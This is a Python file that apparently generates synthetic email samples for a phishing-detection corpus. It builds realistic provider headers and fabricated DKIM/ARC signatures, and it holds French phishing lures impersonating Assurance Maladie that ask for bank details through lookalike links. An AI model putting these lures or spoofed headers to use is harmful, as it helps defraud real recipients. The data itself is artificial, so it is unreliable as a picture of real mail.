                "X-VR-SPAMCAUSE",
                "gggruggvucftvghtrhhoucdtuddrgeeffedrtddtgdduvdeiucetufdoteggodetrfdotffvucfrrhhofhhilhgvmecuqfggjfdpvefjgfevmfevgfenuceurghilhhouhhtmecuhedttdenucesvcftvggtihhpihgvnhhtshculddquddttddm"
                + tok(seed + "vr", 40, LOWER),
            ),
        ],
    )


def ovh_web(seed: str, cluster: int) -> Origin:
    """PHP mail() from an OVH web hosting cluster."""
    mo = num(seed + "mo", 500, 599)
    return Origin(
        host=f"mo{mo}.mail-out.ovh.net",
        ip=f"46.105.{num(seed + 'ip1', 32, 63)}.{num(seed + 'ip2', 2, 250)}",
        hops=[
            f"from cluster{cluster:03d}.hosting.ovh.net (unknown [10.108.{num(seed + 'a', 1, 60)}.{num(seed + 'b', 2, 250)}])\n"
            f"\tby mo{mo}.mail-out.ovh.net (Postfix) with ESMTP id 4f{tok(seed + 'q1', 11)}\n"
            "\tfor <{rcpt}>; {pf}",
        ],
        trace=[
            ("X-Ovh-Tracer-Id", tok(seed + "tracer", 19, DIGITS)),
            ("X-VR-SPAMSTATE", "OK"),
            ("X-VR-SPAMSCORE", "0"),
            (
                "X-VR-SPAMCAUSE",
                "gggruggvucftvghtrhhoucdtuddrgeeffedrtddtgdduvdejucetufdoteggodetrfdotffvucfrrhhofhhilhgvmecuqfggjfdpvefjgfevmfevgfenuceurghilhhouhhtmecuhedttdenuc"
                + tok(seed + "vr", 30, LOWER),
            ),
        ],
    )


def google(seed: str, *, client: str = "web", client_ip: str = "") -> Origin:
    """Gmail or Google Workspace (web, phone or SMTP client)."""
    kind = ("wr1", "wm1", "ej1", "lf1", "wr1-x42c")[num(seed + "k", 0, 4)]
    n = num(seed + "f", 41, 99)
    host = f"mail-{kind}-f{n}.google.com" if "x" not in kind else f"mail-{kind}.google.com"
    ip = f"209.85.{num(seed + 'ip', 128, 223)}.{n}"
    smtp_id = f"{tok(seed + 'sid1', 11, 'abcdefghijklmnopqrstuvwxyz0123456789')}-{tok(seed + 'sid2', 12, HEX)}so{tok(seed + 'sid3', 7, DIGITS)}f8f.{num(seed + 'sid4', 1, 9)}"
    hops = [f"by {host} with SMTP id {smtp_id}\n        for <{{rcpt}}>; {{gg}}"]
    if client == "smtp":
        hops.append(
            f"from [192.168.1.{num(seed + 'lan', 10, 60)}] (lfbn-lyo-1-{num(seed + 'l1', 100, 999)}-{num(seed + 'l2', 2, 250)}.w{client_ip}.abo.wanadoo.fr. [{client_ip}])\n"
            f"        by smtp.gmail.com with ESMTPSA id {tok(seed + 'es', 16, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'es2', 10, 99)}.2026.05.04\n"
            "        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128);\n        {gg}"
        )
    trace = [
        (
            "X-Google-DKIM-Signature",
            f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={{t}}; x={{x}};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n        bh={b64(seed + 'gbh', 32)};\n        b={fold(b64(seed + 'gb', 192), 70, chr(10) + '        ')}",
        ),
        ("X-Gm-Message-State", f"AOJu0Y{tok(seed + 'gms', 60)}\n\t{tok(seed + 'gms2', 40)}=="),
        ("X-Google-Smtp-Source", f"AGHT+IF{tok(seed + 'gss', 70)}="),
        (
            "X-Received",
            f"by 2002:a05:6000:{tok(seed + 'xr1', 4, HEX)}:b0:{tok(seed + 'xr2', 3, HEX)}:{tok(seed + 'xr3', 4, HEX)}:{tok(seed + 'xr4', 4, HEX)} with SMTP id {tok(seed + 'xr5', 24, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'xr6', 10, 99)}.{num(seed + 'xr7', 1000, 9999)};\n        {{gg}}",
        ),
    ]
    return Origin(host=host, ip=ip, hops=hops, trace=trace, country="US")


MBX_EHPAD = ("PR1P264MB3920", "PR1P264MB1854", "PAZP264MB4418", "MR1P264MB2877")


def m365_out(seed: str, *, consumer: bool = False, notif: bool = False, mbx: str = "") -> Origin:
    """A message leaving Exchange Online (another tenant, Outlook.com or a Microsoft service)."""
    if consumer:
        host = f"EUR{num(seed + 'e', 1, 5):02d}-{('VI1', 'AM6', 'DB5', 'HE1')[num(seed + 'r', 0, 3)]}-obe.outbound.protection.outlook.com"
        ip = f"40.92.{num(seed + 'ip1', 48, 127)}.{num(seed + 'ip2', 2, 250)}"
        inner = f"{('AS8P', 'DU0P', 'PAXP', 'VI1P')[num(seed + 'm', 0, 3)]}{num(seed + 'mn', 190, 195)}MB{num(seed + 'mb', 1000, 9999)}"
        region = "EURP" + str(num(seed + "mn", 190, 195))
    else:
        host = f"mail-{('pr0p264cu014', 'mr2p264cu001', 'pa5p264cu001', 'db8pr02cu002')[num(seed + 'h', 0, 3)]}{num(seed + 'hn', 0, 9):02d}.outbound.protection.outlook.com"
        ip = f"52.101.{num(seed + 'ip1', 64, 127)}.{num(seed + 'ip2', 2, 250)}"
        inner = f"{('PR0P264', 'MRZP264', 'PA4P264', 'DB9PR02')[num(seed + 'm', 0, 3)]}MB{num(seed + 'mb', 1000, 9999)}"
        region = "FRAP264" if inner.endswith("P264") or "P264MB" in inner else "EURPRD02"
    if mbx:
        inner, region = mbx, "FRAP264"
    fqdn = f"{inner}.{region}.PROD.OUTLOOK.COM"
    v6 = f"fe80::{tok(seed + 'v6a', 4, HEX)}:{tok(seed + 'v6b', 4, HEX)}:{tok(seed + 'v6c', 4, HEX)}:{tok(seed + 'v6d', 4, HEX)}"
    hops = [
        f"from {fqdn}\n ([{v6}]) by {fqdn}\n ([{v6}%{num(seed + 'pct', 3, 7)}]) with mapi id 15.20.{num(seed + 'build', 8700, 8799)}.{num(seed + 'build2', 10, 40):03d}; {{ms}}"
    ]
    if notif:
        hops = [
            f"from {fqdn} (2603:10b6:{tok(seed + 'n1', 3, HEX)}:{tok(seed + 'n2', 2, HEX)}::{num(seed + 'n3', 5, 30)}) by\n"
            f" {fqdn} with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(seed + 'build', 8700, 8799)}.{num(seed + 'build2', 10, 40)}; {{ms}}"
        ]
    trace = [
        (
            "ARC-Seal",
            f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold(b64(seed + 'arcb', 256), 76, chr(10) + ' ')}",
        ),
        (
            "ARC-Message-Signature",
            f"i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh={b64(seed + 'arcbh', 32)};\n b={fold(b64(seed + 'arcmb', 256), 76, chr(10) + ' ')}",
        ),
    ]
    return Origin(host=host, ip=ip, hops=hops, trace=trace)


def arc_results(origin: Origin, env_dom: str, from_dom: str, dkim_dom: str) -> None:
    """Add the ARC-Authentication-Results an Exchange Online sender stamps (all pass)."""
    origin.trace.insert(
        0,
        (
            "ARC-Authentication-Results",
            f"i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={env_dom}; dmarc=pass action=none\n"
            f" header.from={from_dom}; dkim=pass header.d={dkim_dom}; arc=none",
        ),
    )


def gandi_out(seed: str, sasl: str, client_ip: str) -> Origin:
    """A Gandi mailbox sending through relay*.mail.gandi.net."""
    relay = ("relay1-d", "relay2-d", "relay3-d", "relay4-d", "relay5-d", "relay6-d")[
        num(seed + "r", 0, 5)
    ]
    return Origin(
        host=f"{relay}.mail.gandi.net",
        ip=f"217.70.183.{num(seed + 'ip', 193, 201)}",
        hops=[
            f"by mail.gandi.net (Postfix) with ESMTPSA id {tok(seed + 'q', 10, HEX).upper()};\n\t{{pf}}"
        ],
        trace=[
            ("X-GND-Sasl", sasl),
            ("X-Originating-IP", f"[{client_ip}]"),
        ],
    )


def vps(seed: str, host: str, ip: str, mta_name: str, *, localhost: bool = True) -> Origin:
    """A self-run Postfix on a rented server."""
    hops = []
    if localhost:
        hops.append(
            f"from localhost (localhost [127.0.0.1])\n\tby {mta_name} (Postfix) with ESMTPSA id {tok(seed + 'q', 10, HEX).upper()}\n"
            "\tfor <{rcpt}>; {pf}"
        )
    return Origin(host=host, ip=ip, hops=hops, country="NL")


def cpanel(seed: str, host: str, ip: str, user: str) -> Origin:
    """A shared cPanel host (Exim), typically a compromised site or account."""
    return Origin(
        host=host,
        ip=ip,
        hops=[
            f"from {user} by {host} with local (Exim 4.97.1)\n\t(envelope-from <{user}@{host}>)\n"
            f"\tid 1u{tok(seed + 'ex1', 4)}-0000{tok(seed + 'ex2', 2).upper()}-{tok(seed + 'ex3', 2)}\n\tfor {{rcpt}}; {{loc}}"
        ],
        trace=[
            (
                "X-AntiAbuse",
                "This header was added to track abuse, please include it with any abuse report",
            ),
            ("X-AntiAbuse", f"Primary Hostname - {host}"),
            ("X-AntiAbuse", f"Sender Address Domain - {host.split('.', 1)[1]}"),
            ("X-Get-Message-Sender-Via", f"{host}: authenticated_id: {user}"),
        ],
        country="US",
    )


def esp(host: str, ip: str, hop: str, country: str = "FR") -> Origin:
    return Origin(host=host, ip=ip, hops=[hop] if hop else [], country=country)


# --- The message model -------------------------------------------------------------------


@dataclass
class Mail:
    name: str
    imitates: str
    sender: Person
    to: Person
    subject: str
    sent: str  # Paris time
    body: bytes  # the top MIME entity, with its Content-Type
    origin: Origin
    auth: Auth = Auth()
    envelope: str = ""  # Return-Path address; the sender's by default
    head: list[tuple[str, str]] = field(default_factory=list)  # further message headers
    msgid: str = ""
    date: str = "local"  # local | utc | pad
    enc: str = "Q"  # encoded words: Q | B
    charset: str = "UTF-8"
    cc: list[Person] = field(default_factory=list)
    internal: bool = False  # stays inside the receiving organisation
    scl: int = 1
    bcl: int = 0

    @property
    def sent_at(self) -> datetime:
        return at(self.sent)


def dkim_signature(d: str, s: str, seed: str, t: datetime, h: str) -> str:
    ts = int(t.timestamp())
    return (
        f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={ts};\n\th={h};\n"
        f"\tbh={b64(seed + d + 'bh', 32)};\n\tb={fold(b64(seed + d + 'b', 256), 70)}"
    )


def signatures(m: Mail) -> list[tuple[str, str]]:
    if m.auth.dkim == "none":
        return []
    return list(m.auth.sigs) or [(m.sender.domain, "default")]


def m365_results(m: Mail, env_dom: str) -> str:
    a = m.auth
    ip = m.origin.ip
    spf = f"spf={a.spf} (sender IP is {ip})\n smtp.mailfrom={env_dom}"
    if a.spf == "none":
        spf = f"spf=none (sender IP is {ip})\n smtp.mailfrom={env_dom}"
    sigs = signatures(m)
    if not sigs:
        dk = ["dkim=none (message not signed)\n header.d=none"]
    else:
        why = {"pass": "signature was verified", "fail": "body hash did not verify"}[a.dkim]
        dk = [f"dkim={a.dkim} ({why})\n header.d={d}" for d, _ in sigs]
    fd = m.sender.domain
    action = "none"
    if a.dmarc == "fail":
        action = {"reject": "oreject", "quarantine": "quarantine"}.get(a.policy, "none")
    compauth = {
        "pass": "pass reason=100",
        "bestguesspass": "pass reason=109",
        "fail": "fail reason=000",
    }.get(a.dmarc, "softpass reason=201" if "pass" in (a.spf, a.dkim) else "none reason=405")
    return (
        f"{spf}; "
        + ";".join(dk)
        + f";dmarc={a.dmarc} action={action}\n header.from={fd};compauth={compauth}"
    )


def received_spf(m: Mail, env_dom: str) -> str:
    ip, host = m.origin.ip, m.origin.host
    a = m.auth
    if a.spf == "pass":
        lead = f"Pass (protection.outlook.com: domain of {env_dom} designates {ip} as\n permitted sender)"
    elif a.spf == "fail":
        lead = f"Fail (protection.outlook.com: domain of {env_dom} does not\n designate {ip} as permitted sender)"
    elif a.spf == "softfail":
        lead = f"SoftFail (protection.outlook.com: domain of transitioning\n {env_dom} discourages use of {ip} as permitted sender)"
    else:
        lead = (
            f"None (protection.outlook.com: {env_dom} does not designate\n permitted sender hosts)"
        )
    tail = f" receiver=protection.outlook.com;\n client-ip={ip}; helo={host};"
    return lead + tail + (" pr=C" if a.spf == "pass" else "")


def m365_in(
    m: Mail, t: datetime, env_dom: str
) -> tuple[list[tuple[str, str]], list[tuple[str, str]]]:
    """Exchange Online (the EHPAD): trace headers above the message's, and X-MS headers after."""
    s = m.name
    mbx = MBX_EHPAD[num(s + "mbx", 0, len(MBX_EHPAD) - 1)]
    mbx2 = MBX_EHPAD[(MBX_EHPAD.index(mbx) + 1) % len(MBX_EHPAD)]
    eur = f"eurprd0{num(s + 'eur', 2, 6)}"
    fe = f"{('AM0PR02CA', 'DU2PR04CA', 'PA7P264CA', 'MR2P264CA', 'AS4P190CA')[num(s + 'fe', 0, 4)]}{num(s + 'fen', 1, 299):04d}"
    eop = f"{('AMS0EPF', 'DU6PEPF', 'AM4PEPF', 'DB1PEPF')[num(s + 'eop', 0, 3)]}0000{tok(s + 'eopn', 4, '0123456789ABCDEF')}"

    def v6(k: str) -> str:
        return f"2603:10a6:{tok(s + k + '1', 3, HEX)}:{tok(s + k + '2', 3, HEX)}::{num(s + k + '3', 5, 40)}"

    t1, t2, t3 = t + timedelta(seconds=2), t + timedelta(seconds=1), t
    top: list[tuple[str, str]] = []
    bottom: list[tuple[str, str]] = []
    top.append(
        (
            "Received",
            f"from {mbx}.FRAP264.PROD.OUTLOOK.COM ({v6('a')}) by\n {mbx2}.FRAP264.PROD.OUTLOOK.COM with HTTPS; {ms_date(t1)}",
        )
    )
    if m.internal:
        top.append(
            (
                "Authentication-Results",
                f"dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={EHPAD};",
            )
        )
        bottom += [
            ("X-MS-Exchange-Organization-AuthAs", "Internal"),
            ("X-MS-Exchange-Organization-AuthMechanism", "04"),
            ("X-MS-Exchange-Organization-AuthSource", f"{mbx}.FRAP264.PROD.OUTLOOK.COM"),
            ("X-MS-Exchange-Organization-Network-Message-Id", guid(s + "netid")),
            ("X-MS-Exchange-Organization-SCL", "-1"),
            ("X-MS-Exchange-Organization-MessageDirectionality", "Originating"),
            ("X-MS-PublicTrafficType", "Email"),
        ]
        return top, bottom
    top.append(
        (
            "Received",
            f"from {fe}.{eur}.prod.outlook.com ({v6('b')}) by\n {mbx}.FRAP264.PROD.OUTLOOK.COM ({v6('a')}) with\n"
            f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8769.25; {ms_date(t2)}",
        )
    )
    top.append(
        (
            "Received",
            f"from {eop}.{eur}.prod.outlook.com\n ({v6('c')}:cafe::{tok(s + 'cafe', 2, HEX)}) by {fe}.outlook.office365.com\n"
            f" ({v6('b')}) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.8769.25 via Frontend Transport; {ms_date(t2)}",
        )
    )
    top.append(("Authentication-Results", m365_results(m, env_dom)))
    top.append(("Received-SPF", received_spf(m, env_dom)))
    top.append(
        (
            "Received",
            f"from {m.origin.host} ({m.origin.ip}) by\n {eop}.mail.protection.outlook.com (10.167.{num(s + 'p1', 8, 250)}.{num(s + 'p2', 2, 250)}) with Microsoft SMTP Server\n"
            f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8769.15 via Frontend\n Transport; {ms_date(t3)}",
        )
    )
    sfv = "SPM" if m.scl >= 5 else "NSPM"
    cat = "SPOOF" if (m.scl >= 5 and m.auth.dmarc == "fail") else ("BULK" if m.bcl >= 7 else "NONE")
    bottom += [
        (
            "X-MS-Exchange-Organization-ExpirationStartTime",
            f"{t3.astimezone(UTC):%d %b %Y %H:%M:%S.%f}"[:-3] + "0 (UTC)",
        ),
        ("X-MS-Exchange-Organization-ExpirationStartTimeReason", "OriginalSubmit"),
        ("X-MS-Exchange-Organization-Network-Message-Id", guid(s + "netid")),
        ("X-EOPAttributedMessage", "0"),
        ("X-EOPTenantAttributedMessage", f"{guid('tenant-ehpad')}:0"),
        ("X-MS-Exchange-Organization-MessageDirectionality", "Incoming"),
        ("X-MS-PublicTrafficType", "Email"),
        ("X-MS-Exchange-Organization-AuthSource", f"{eop}.{eur}.prod.outlook.com"),
        ("X-MS-Exchange-Organization-AuthAs", "Anonymous"),
        ("X-MS-Exchange-Organization-SCL", str(m.scl)),
        (
            "X-Forefront-Antispam-Report",
            f"CIP:{m.origin.ip};CTRY:{m.origin.country};LANG:fr;SCL:{m.scl};SRV:{'BULK' if m.bcl >= 7 else ''};IPV:NLI;SFV:{sfv};H:{m.origin.host};\n"
            f" PTR:{m.origin.host};CAT:{cat};SFS:(13230040)(69100299015)(8096899003)(4076899003);DIR:INB;",
        ),
        ("X-Microsoft-Antispam", f"BCL:{m.bcl};ARA:13230040|69100299015|8096899003|4076899003;"),
    ]
    return top, bottom


def gandi_in(m: Mail, t: datetime, env: str) -> list[tuple[str, str]]:
    """Gandi mail (the foyer): Rspamd-style Authentication-Results."""
    s = m.name
    spool = f"spool{num(s + 'spool', 1, 4)}.mail.gandi.net"
    a = m.auth
    ip = m.origin.ip
    fd = m.sender.domain
    results = []
    sigs = signatures(m)
    if sigs:
        for d, sel in sigs:
            results.append(
                f"dkim={a.dkim} header.d={d} header.s={sel} header.b={b64(s + d + 'b', 256)[:8]}"
            )
    else:
        results.append("dkim=none")
    if a.spf == "pass":
        results.append(
            f"spf=pass ({spool}: domain of {env} designates {ip} as permitted sender) smtp.mailfrom={env}"
        )
    elif a.spf == "fail":
        results.append(
            f"spf=fail ({spool}: domain of {env} does not designate {ip} as permitted sender) smtp.mailfrom={env}"
        )
    elif a.spf == "softfail":
        results.append(
            f"spf=softfail ({spool}: domain of {env} is not designated as permitted sender) smtp.mailfrom={env}"
        )
    else:
        results.append(
            f"spf=none ({spool}: domain of {env} has no SPF policy when checking {ip}) smtp.mailfrom={env}"
        )
    if a.dmarc == "pass":
        results.append(f"dmarc=pass (policy={a.policy}) header.from={fd}")
    elif a.dmarc == "fail":
        results.append(
            f'dmarc=fail reason="SPF not aligned (relaxed), No valid DKIM" header.from={fd} (policy={a.policy})'
        )
    else:
        results.append("dmarc=none")
    t2 = t + timedelta(seconds=1)
    score = {"pass": "-100", "none": "0"}.get(a.dmarc, "40")
    return [
        ("Delivered-To", m.to.email),
        (
            "Received",
            f"from {spool} ({spool} [10.0.21.{num(s + 'sp', 2, 40)}])\n\tby mailbox{num(s + 'mbx', 1, 3)}.mail.gandi.net (Postfix) with ESMTP id 4f{tok(s + 'gq1', 11)}\n"
            f"\tfor <{m.to.email}>; {pf_date(t2)}",
        ),
        ("Authentication-Results", f"{spool};\n\t" + ";\n\t".join(results)),
        ("X-GND-State", "clean"),
        ("X-GND-Score", score),
        (
            "Received",
            f"from {m.origin.host} ({m.origin.host} [{ip}])\n"
            "\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
            "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
            "\t(No client certificate requested)\n"
            f"\tby {spool} (Postfix) with ESMTPS id 4f{tok(s + 'gq2', 11)}\n\tfor <{m.to.email}>; {pf_date(t)}",
        ),
    ]


SIGNED = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"


def build(m: Mail) -> bytes:
    t = m.sent_at
    env = m.envelope or m.sender.email
    env_dom = domain_of(env)
    n = len(m.origin.hops)
    t_in = t + timedelta(seconds=n + 1)
    headers: list[tuple[str, str]] = [("Return-Path", f"<{env}>")]
    after: list[tuple[str, str]] = []
    if m.to.domain == EHPAD:
        top, after = m365_in(m, t_in, env_dom)
        headers += top
    else:
        headers += gandi_in(m, t_in, env)
    stamp = int(t.timestamp())
    for i, hop in enumerate(m.origin.hops):
        ht = t + timedelta(seconds=n - i)
        headers.append(
            (
                "Received",
                hop.format(
                    ms=ms_date(ht), pf=pf_date(ht), gg=g_date(ht), loc=rfc(ht), rcpt=m.to.email
                ),
            )
        )
    for k, v in m.origin.trace:
        headers.append(
            (
                k,
                v.replace("{t}", str(stamp))
                .replace("{x}", str(stamp + 604800))
                .replace("{gg}", g_date(t)),
            )
        )
    for d, sel in signatures(m):
        headers.append(("DKIM-Signature", dkim_signature(d, sel, m.name, t, SIGNED)))
    if m.date == "utc":
        date = ms_date(t)
    elif m.date == "pad":
        date = rfc(t, pad="0")
    else:
        date = rfc(t)
    headers.append(("From", addr(m.sender.name, m.sender.email, m.enc, m.charset)))
    headers.append(("To", addr(m.to.name, m.to.email, m.enc, m.charset)))
    if m.cc:
        headers.append(("Cc", ",\n\t".join(addr(p.name, p.email, m.enc, m.charset) for p in m.cc)))
    headers.append(("Subject", ew(m.subject, m.enc, m.charset)))
    headers.append(("Date", date))
    headers.append(("Message-ID", m.msgid or f"<{tok(m.name + 'mid', 24, HEX)}@{m.sender.domain}>"))
    headers += m.head
    headers += after
    headers.append(("MIME-Version", "1.0"))
    head = "".join(f"{k}: {v}\n" for k, v in headers)
    return head.encode() + m.body


# --- Body helpers ------------------------------------------------------------------------


def alt(
    plain_text: str,
    html_text: str,
    style: str,
    cte: str = "quoted-printable",
    charset: str = "utf-8",
) -> bytes:
    return multipart(
        "alternative", [text(plain_text, cte, charset), htmlpart(html_text, cte, charset)], style
    )


def mixed(parts: list[bytes], style: str) -> bytes:
    return multipart("mixed", parts, style)


def outlook_body(
    body: str,
    attachments: list[bytes] | None = None,
    cte: str = "quoted-printable",
    charset: str = "utf-8",
) -> bytes:
    entity = alt(plain(body), html_outlook(body), "outlook", cte, charset)
    return mixed([entity, *attachments], "outlook") if attachments else entity


def gmail_body(
    body: str, attachments: list[bytes] | None = None, cte: str = "quoted-printable"
) -> bytes:
    entity = alt(plain(body), html_gmail(body), "gmail", cte)
    return mixed([entity, *attachments], "gmail") if attachments else entity


def card_body(
    style: str,
    cte: str = "quoted-printable",
    *,
    brand: str,
    color: str,
    title: str,
    paragraphs: list[str],
    button: tuple[str, str] | None = None,
    after: list[str] | None = None,
    footer: list[str] | None = None,
    pixel: str = "",
    preheader: str = "",
) -> bytes:
    """A notification (``card``) with its text/plain twin, as multipart/alternative."""
    txt = card_text(title, paragraphs, button, after, footer)
    page = card(
        brand=brand,
        color=color,
        title=title,
        paragraphs=paragraphs,
        button=button,
        after=after,
        footer=footer,
        pixel=pixel,
        preheader=preheader,
    )
    return alt(txt, page, style, cte)


def mid_outlook(
    seed: str, mbx: str = "PR1P264MB3920", region: str = "FRAP264.PROD.OUTLOOK.COM"
) -> str:
    return f"<{mbx}{tok(seed, 20, '0123456789ABCDEF')}@{mbx}.{region}>"


def mid_gmail(seed: str) -> str:
    return (
        "<CA"
        + tok(seed, 1, "BCDEFGHJKLMNOPQRSTUVWXYZ")
        + tok(seed + "g", 43, ALNUM + "+_-")
        + "=@mail.gmail.com>"
    )


def thread_index(seed: str) -> str:
    return "AQH" + tok(seed + "ti", 29, ALNUM + "+/") + "=="


def outlook_head(seed: str, subject: str, *, attach: bool = False) -> list[tuple[str, str]]:
    return [
        ("Thread-Topic", ew(re.sub(r"^(RE|TR|Re|Fwd|FW) ?: ?", "", subject), "Q", "UTF-8")),
        ("Thread-Index", thread_index(seed)),
        ("Accept-Language", "fr-FR, en-US"),
        ("Content-Language", "fr-FR"),
        ("X-MS-Has-Attach", "yes" if attach else ""),
        ("X-MS-TNEF-Correlator", ""),
    ]


# --- Cast --------------------------------------------------------------------------------

DIRECTRICE = Person("Catherine Vidal", f"c.vidal@{EHPAD}")
COMPTA_E = Person("Sandrine Morel", f"comptabilite@{EHPAD}")
ACCUEIL_E = Person("Accueil EHPAD Le Clos des Vignes", f"accueil@{EHPAD}")
IDEC_E = Person("Laurent Petit", f"l.petit@{EHPAD}")
RH_E = Person("Amandine Roux", f"rh@{EHPAD}")
SSIAD_E = Person("Émilie Fournier", f"ssiad@{EHPAD}")
ANIM_E = Person("Mathilde Leroy", f"animation@{EHPAD}")
AS_E = Person("Kévin Bonnet", f"k.bonnet@{EHPAD}")
CADRE_E = Person("Nadège Faure", f"n.faure@{EHPAD}")

DIR_F = Person("Thierry Blanc", f"direction@{FOYER}")
SECR_F = Person("Nathalie Girard", f"secretariat@{FOYER}")
COMPTA_F = Person("Fabienne Mercier", f"comptabilite@{FOYER}")
CHEF_F = Person("Yannick Perrin", f"y.perrin@{FOYER}")
EDUC_F = Person("Lucie Garnier", f"l.garnier@{FOYER}")

ROMAIN = Person("Romain Chevalier", f"r.chevalier@{NUMERIA}")

BLANCHISSERIE = "blanchisserie-durhone.fr"
MEDIDISTRIB = "medidistrib-sud.fr"
AMANDIERS = "residence-lesamandiers.fr"
AXIAL = "axialsoins.fr"
PAIE = "rhpartenaires-paie.fr"


def privateemail(seed: str) -> Origin:
    n = num(seed + "mta", 1, 12)
    return esp(
        f"MTA-{n:02d}.privateemail.com",
        f"198.54.127.{num(seed + 'ip', 40, 90)}",
        f"from MTA-{n:02d}.privateemail.com (localhost [127.0.0.1])\n\tby MTA-{n:02d}.privateemail.com (Postfix) with ESMTP id 4f{tok(seed + 'q', 11)}\n\tfor <{{rcpt}}>; {{pf}}",
        "US",
    )


def sendgrid(seed: str, ptr: str = "") -> Origin:
    host = ptr or f"{tok(seed + 'sg', 8, LOWER)}.outbound-mail.sendgrid.net"
    return esp(
        host,
        f"149.72.{num(seed + 'ip1', 100, 250)}.{num(seed + 'ip2', 2, 250)}",
        f"by recvd-{tok(seed + 'rv', 10, LOWER)}-{tok(seed + 'rv2', 5, LOWER)} with SMTP id {tok(seed + 'sid', 22)}\n\tfor <{{rcpt}}>; {{pf}}",
        "US",
    )


def mailgun(seed: str) -> Origin:
    a, b = num(seed + "a", 220, 230), num(seed + "b", 1, 20)
    return esp(
        f"m{a}-{b}.mailgun.net",
        f"159.135.{a}.{b}",
        f"by {tok(seed + 'h', 12, HEX)} with HTTP id {tok(seed + 'id', 24, HEX)}; {{pf}}",
        "US",
    )


def ses(seed: str, region: str = "eu-west-3") -> Origin:
    a, b = num(seed + "a", 1, 90), num(seed + "b", 1, 250)
    return esp(f"a{a}-{b}.smtp-out.{region}.amazonses.com", f"23.251.{a}.{b}", "", "FR")


def orange_out(seed: str, client_ip: str, domain: str) -> Origin:
    n = num(seed + "n", 12, 29)
    o = Origin(
        host=f"smtp-{n}.smtp-out.orange.fr",
        ip=f"80.12.242.{n}",
        hops=[
            f"from [192.168.1.{num(seed + 'lan', 10, 40)}] ([{client_ip}])\n\tby smtp.orange.fr with ESMTPA\n\tid {tok(seed + 'oid', 14)}; {{loc}}"
        ],
        trace=[
            ("X-ME-Helo", f"[192.168.1.{num(seed + 'lan', 10, 40)}]"),
            ("X-ME-Auth", base64.b64encode(f"{seed[:6]}@{domain}".encode()).decode()),
            ("X-ME-Date", "{loc}"),
            ("X-ME-IP", client_ip),
        ],
    )
    return o


# --- Phishing ----------------------------------------------------------------------------


def phishing() -> list[Mail]:
    mails: list[Mail] = []

    # p01 -----------------------------------------------------------------------------------
    dom = "ameli-remboursement-assure.com"
    link = "https://ameli.remboursement-securise.fr/assure/connexion?ref=AM-2026-884213"
    mails.append(
        Mail(
            name="p01_ameli_remboursement_en_attente",
            imitates="Faux ameli : remboursement de 238,40 € en attente, coordonnées bancaires à « mettre à jour » ; domaine de l'attaquant authentifié (SPF, DKIM, DMARC passent), lien en sous-domaine « ameli. » d'un autre domaine",
            sender=Person("Assurance Maladie", f"notification@{dom}"),
            to=ACCUEIL_E,
            subject="Remboursement en attente : 238,40 € – action requise",
            sent="2026-05-04 07:41:09",
            body=card_body(
                "php",
                brand="ameli",
                color="#0c419a",
                title="Un remboursement vous attend",
                preheader="Vos coordonnées bancaires doivent être mises à jour.",
                paragraphs=[
                    "Bonjour,",
                    "Suite à la mise à jour annuelle de vos informations, nous avons constaté qu'un remboursement de 238,40 € n'a pas pu vous être versé : les coordonnées bancaires enregistrées sur votre compte ne sont plus valides.",
                    "Afin de recevoir ce montant, merci de mettre à jour vos informations depuis votre compte ameli avant le 08/05/2026.",
                ],
                button=("Accéder à mon compte ameli", link),
                after=[
                    "Passé ce délai, le remboursement sera définitivement annulé.",
                    "Cordialement,\nLe service des remboursements\nL'Assurance Maladie",
                ],
                footer=[
                    "Ceci est un message automatique, merci de ne pas y répondre.",
                    "© 2026 Assurance Maladie – [[Mentions légales|https://ameli.remboursement-securise.fr/mentions-legales]]",
                ],
            ),
            origin=vps("p01", f"mail.{dom}", "203.0.113.61", f"mail.{dom}"),
            auth=Auth("pass", "pass", "pass", ((dom, "mail"),)),
            msgid=f"<{tok('p01mid', 32)}@{dom}>",
            head=[("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")],
            date="pad",
        )
    )

    # p02 -----------------------------------------------------------------------------------
    dom = "assurance-maladie-pro.fr"
    body = (
        "Madame, Monsieur,\n\n"
        "Dans le cadre du contrôle annuel de facturation des services de soins infirmiers à "
        "domicile, nos services ont constaté un trop-versé de votre part au titre des "
        "participations 2025, pour un montant de 1 846,20 €.\n\n"
        "Ce montant vous sera remboursé par virement dès réception de vos coordonnées bancaires "
        "mises à jour. Nous vous remercions de compléter le formulaire de votre espace "
        "professionnel :\n\n"
        "[[https://espacepro.ameli.fr/PortailPS/regularisation|https://espacepro-ameli.com/PortailPS/regularisation/?ps=26-0413]]\n\n"
        "Sans retour de votre part sous 5 jours ouvrés, la somme sera reversée au budget de la "
        "caisse.\n\n"
        "Nous vous prions d'agréer, Madame, Monsieur, l'expression de nos salutations "
        "distinguées.\n\n"
        "Service Relations Professionnels de santé\nCPAM de la Drôme\n36 08 (service gratuit + prix appel)"
    )
    mails.append(
